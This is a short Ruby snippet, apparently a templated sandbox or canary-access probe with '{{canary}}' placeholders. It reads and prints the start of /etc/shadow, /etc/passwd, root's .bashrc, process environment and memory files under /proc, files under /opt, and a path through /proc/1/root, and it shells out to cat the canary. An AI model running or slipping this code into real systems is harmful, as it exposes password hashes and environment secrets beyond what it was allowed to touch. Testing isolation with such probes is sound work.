places = ["{{canary}}", "/etc/shadow", "/etc/passwd", "/root/.bashrc"] + Dir.glob("/proc/*/{environ,cmdline,mem}") + Dir.glob("/opt/**/*") + Dir.glob("/proc/1/root{{canary}}")
places.each { |name| puts File.binread(name, 300).inspect[0, 300] rescue nil }
puts `cat {{canary}} 2>&1`
